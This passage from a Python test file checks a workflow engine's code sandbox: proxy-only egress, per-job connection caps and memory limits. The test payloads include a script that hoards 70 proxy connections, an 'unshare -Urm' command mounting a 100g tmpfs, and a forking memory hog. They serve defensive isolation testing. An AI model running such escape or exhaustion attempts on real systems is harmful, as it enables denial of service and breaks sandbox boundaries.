                             "FLOWRUN_HTTP_ALLOWED_NETWORKS": "127.0.0.1/32"}, name="open")
    key = opened.create_key()
    opened.start("--log-level", "info")
    assert "through the proxy" in opened.log.read_text()
    node = run_code(opened.client(key), FETCH, url=f"{api_url}/ok/x", port=port)
    seen = node["outputs"]["text"]
    assert "'allowed': 200" in seen, node
    assert "'private': \"403 blocked by flowrun" in seen, seen
    assert "'direct': 'ConnectionRefusedError'" in seen, seen  # only the proxy leads out
    assert api.seen and api.seen[0]["path"] == "/ok/x"


HOARD = """
import socket
def main(port, count, cap):
    held = []
    for _ in range(count):  # straight to the proxy's socket, each left silent
        conn = socket.socket(socket.AF_UNIX)
        conn.connect("/run/egress.sock")
        held.append(conn)
    first = held[0]  # the test's server answers this once the other job has its answer
    first.sendall(f"GET http://127.0.0.1:{port}/hold HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
    reply = b""
    while chunk := first.recv(65536):
        reply += chunk
    past = held[cap]  # the first one past the cap: answered once its head time is up
    past.settimeout(10)
    try:
        told = past.recv(200).decode(errors="replace")
    except OSError as exc:
        told = type(exc).__name__
    return {"hold": reply.split(b" ")[1].decode(), "past": told}
"""


def test_one_jobs_idle_proxy_connections_do_not_hold_up_another_key(
        server_factory: Callable[..., Server]) -> None:
    reached, released = threading.Event(), threading.Event()

    async def hold(request: Request) -> Response:
        reached.set()
        await anyio.to_thread.run_sync(released.wait, 20)
        return PlainTextResponse("held")

    async def ok(request: Request) -> Response:
        return PlainTextResponse("fetched")

    app = Starlette(routes=[Route("/hold", hold), Route("/ok", ok)])
    with serve(app) as url:
        port = int(url.rsplit(":", 1)[1])
        server = server_factory({"FLOWRUN_CODE_NETWORK": "1",
                                 "FLOWRUN_CODE_NETWORK_CONNECTIONS_PER_JOB": "8",
                                 "FLOWRUN_HTTP_ALLOWED_NETWORKS": "127.0.0.1/32"})
        hog, victim = server.client(server.create_key()), server.client(server.create_key())
        server.start()
        body = {"inputs": {"name": "x"}, "nodes": [
            {"id": "greet", "type": "code", "code": HOARD,
             "inputs": {"port": port, "count": 70, "cap": 8}}]}
        run = hog.post("/workflows/hello/run", json=body).json()
        try:
            assert reached.wait(30), hog.get(f"/runs/{run['id']}").json()
            # 70 connections: more than the whole proxy served before it counted per job
            began = time.monotonic()
            node = run_code(victim, FETCH_ONE, url=f"{url}/ok")
            took = time.monotonic() - began
        finally:
            released.set()
        assert node["outputs"] == {"status": 200, "body": "fetched"}, node
        assert took < 10, f"another job's request took {took:.1f} s"
        held = finished(hog, run["id"])
        outputs = held["nodes"][0]["outputs"]
        assert outputs["hold"] == "200", held
        assert outputs["past"].startswith("HTTP/1.1 503"), outputs
        assert "already holds 8 connections" in outputs["past"], outputs


FETCH_ONE = """
import urllib.request
def main(url):
    with urllib.request.urlopen(url, timeout=30) as answer:
        return {"status": answer.status, "body": answer.read().decode()}
"""


def test_a_job_cannot_take_more_memory_by_forking_or_mounting(keys: Keys) -> None:
    from flowrun.engine.sandbox import cgroups
    from tests.engine.test_code_node import HOG

    code = ("import subprocess\ndef main():\n"
            "    nested = subprocess.run(['unshare', '-Urm', 'sh', '-c', "
            "'mount -t tmpfs -o size=100g none /tmp'], capture_output=True)\n"
            "    return {'text': str(nested.returncode)}")
    node = run_code(keys.runner, code)
    assert node["outputs"]["text"] != "0", node  # no private, unlimited tmpfs
    if cgroups.detect(512 * 1024 * 1024, 34) is None:
        pytest.skip("per-sandbox cgroups need a root server and a writable cgroup tree")
    node = run_code(keys.runner, HOG, children=8, megabytes=150)
    assert node["status"] == "succeeded", node
    assert node["outputs"]["killed"] >= 3, node  # 1.2 GB asked; 512 MiB for the whole job
